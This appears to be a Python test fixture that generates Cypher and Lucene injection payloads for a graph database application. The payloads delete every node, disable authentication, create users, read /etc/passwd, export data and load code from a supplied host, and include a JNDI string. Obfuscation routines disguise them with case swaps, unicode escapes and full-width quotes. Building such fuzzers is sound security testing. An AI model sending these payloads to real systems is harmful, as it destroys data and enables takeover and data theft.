"""Texts that would be orders to a graph database if a statement were made of them: Cypher, and Lucene's syntax."""

import random
from collections.abc import Callable, Sequence

CANARY = "Zq9Canary"
"""The label, type and property that every writing payload would leave."""

_OPENINGS = (
    "",
    "'",
    '"',
    "`",
    "')",
    '")',
    "'})",
    '"})',
    "`)",
    "`]-()",
    "*/ ",
    "\n",
    "\\'",
    "\\\\'",
    "\\u0027",
    "\\u0060",
    "\\u0022})",
    "\u2019",
    "\uff07)",
    "``",
    "$",
    "] ",
    "}) ",
    "AQP4') ",
    "1 OR 1=1 ",
    "x' OR 'a'='a",
    ":Gene`) ",
    "herb_has_compound`]->() ",
)

_STATEMENTS = (
    "CREATE (n:{canary} {{p: {n}}})",
    "MERGE (n:{canary} {{p: {n}}}) RETURN n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n:Entity) SET n.{canary} = {n}",
    "MATCH (n:Entity) REMOVE n.name",
    "MATCH (a:Entity)-[r]->(b:Entity) DELETE r",
    "MATCH (a:Entity), (b:Entity) WITH a, b LIMIT 1 CREATE (a)-[:{canary}]->(b)",
    "WITH 1 AS x MATCH (n) WITH n LIMIT 5 DETACH DELETE n RETURN 1",
    "UNION MATCH (n) SET n:{canary} RETURN n",
    "UNION ALL MATCH (n) DETACH DELETE n RETURN 1 AS row",
    "FOREACH (i IN range(1, 3) | CREATE (:{canary} {{p: i}}))",
    "CALL {{ CREATE (n:{canary}) RETURN n }} RETURN n",
    "UNWIND range(1, 3) AS i CALL (i) {{ CREATE (:{canary} {{p: i}}) }} IN TRANSACTIONS OF 1 ROWS",
    "CALL db.createLabel('{canary}')",
    "CALL db.createProperty('{canary}')",
    "CALL db.createRelationshipType('{canary}')",
    "CALL db.index.fulltext.drop('entity_name_keys')",
    "CALL db.index.fulltext.queryNodes('entity_name_keys', '*') YIELD node SET node:{canary} RETURN node",
    "CALL db.labels() YIELD label RETURN label",
    "CALL dbms.setConfigValue('dbms.security.auth_enabled', 'false')",
    "CALL dbms.security.createUser('{canary}', 'password', false)",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.killQuery('query-1')",
    "CALL apoc.cypher.runWrite('CREATE (:{canary})', {{}})",
    "CALL apoc.cypher.doIt('MATCH (n) DETACH DELETE n', {{}}) YIELD value RETURN value",
    "CALL apoc.load.json('{url}') YIELD value RETURN value",
    "CALL apoc.export.csv.all('{url}', {{}})",
    "CALL apoc.load.jdbc('{url}', 'SELECT 1')",
    "LOAD CSV FROM '{url}' AS row CREATE (:{canary} {{p: row[0]}})",
    "LOAD CSV WITH HEADERS FROM '{url}' AS row RETURN row",
    "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
    "DROP INDEX entity_name_keys IF EXISTS",
    "DROP CONSTRAINT entity_id IF EXISTS",
    "CREATE INDEX {canary} FOR (n:Entity) ON (n.{canary})",
    "CREATE USER {canary} SET PASSWORD 'password1' CHANGE NOT REQUIRED",
    "ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'password1'",
    "CREATE DATABASE {canary}",
    "STOP DATABASE neo4j",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "SHOW USERS YIELD user RETURN user",
    "MATCH (l:Ledger) SET l.head = 0",
    "MATCH (u:Unfinished) SET u.hidden = [1]",
    "USE system CREATE USER {canary} SET PASSWORD 'password1'",
)

_WORDS = (
    "$id",
    "$ids",
    "$each",
    "$type",
    "$index",
    "{{id: $id}}",
    "${{jndi:ldap://{host}/{canary}}}",
    "{{{{n.name}}}}",
    "entity_name_words",
    "Entity`:`{canary}",
    "`{canary}`",
    "Gene|{canary}",
    "*",
    "*:*",
    "name:*",
    "keys:[* TO *]",
    "keys:{{a TO z}}",
    "keys:/.*/",
    "words:(+a -b) AND NOT c",
    "AQP4~2^10 && (!x || +y)",
    '"AQP4" OR "*"~100000',
    "a\\\\:b\\\\",
    "\\\\\\",
    "(((((((((",
    '"',
    "AND OR NOT",
    "_val_:{url}",
    "bolt://{host}/",
    "{url}",
    "jx:protein/aqp4' OR 1=1 //",
    "jx:protein/aqp4|inhibits|`{canary}`",
    "../../{canary}",
    "%27%29%20CREATE%20%28%3A{canary}%29",
    "#{{CREATE (:{canary})}}",
)

_ENDINGS = ("", " //", " /*", " --", " ;", "`", "'", '"', " RETURN 1 //", " RETURN 1 UNION RETURN 2 //", "\\", "\n//")
_BLANKS = (" ", "  ", "\t", "\n", "/**/", "/* x */", "\u00a0", "\u2003")


def payloads(number: int, *, seed: int, host: str) -> list[str]:
    """Different texts, the same for a seed; ``host`` is the HOST:PORT that some would make the server call."""
    drawn = random.Random(seed)
    made: dict[str, None] = {}
    while len(made) < number:
        count = len(made)
        # Each statement and each word occurs before any is drawn a second time.
        template = (_STATEMENTS + _WORDS)[count % (len(_STATEMENTS) + len(_WORDS))]
        text = template.format(canary=CANARY, n=count, url=f"http://{host}/{CANARY}/{count}", host=host)
        if template in _STATEMENTS or count >= len(_STATEMENTS) + len(_WORDS):
            text = f"{drawn.choice(_OPENINGS)}{text}{drawn.choice(_ENDINGS)}"
        for change in drawn.sample(_CHANGES, drawn.choice((0, 0, 1, 1, 2))):
            text = change(text, drawn)
        if text.strip():
            made[text] = None
    return list(made)


def _other_case(text: str, drawn: random.Random) -> str:
    """Letters of the other case, but not those of an address."""
    return text if "://" in text else "".join(c.swapcase() if drawn.random() < 0.3 else c for c in text)


def _other_blanks(text: str, drawn: random.Random) -> str:
    return "".join(drawn.choice(_BLANKS) if c == " " else c for c in text)


def _escaped_marks(text: str, drawn: random.Random) -> str:
    """Quotes and backticks in the escapes that Cypher reads before it parses."""
    return "".join(f"\\u{ord(c):04x}" if c in "'\"`" and drawn.random() < 0.7 else c for c in text)


def _wide_marks(text: str, drawn: random.Random) -> str:
    """Full-width forms, which a normalisation may turn into the marks themselves."""
    return "".join(chr(ord(c) + 0xFEE0) if c in "'\"`(){}:;" and drawn.random() < 0.5 else c for c in text)


def _doubled(text: str, drawn: random.Random) -> str:
    return f"{text}\n{text}" if drawn.random() < 0.5 else f"{text};{text}"


def _in_chinese(text: str, drawn: random.Random) -> str:
    return f"{drawn.choice(('丹参', '水通道蛋白4', '睡眠'))}{text}"


_CHANGES: Sequence[Callable[[str, random.Random], str]] = (
    _other_case,
    _other_blanks,
    _escaped_marks,
    _wide_marks,
    _doubled,
    _in_chinese,
)
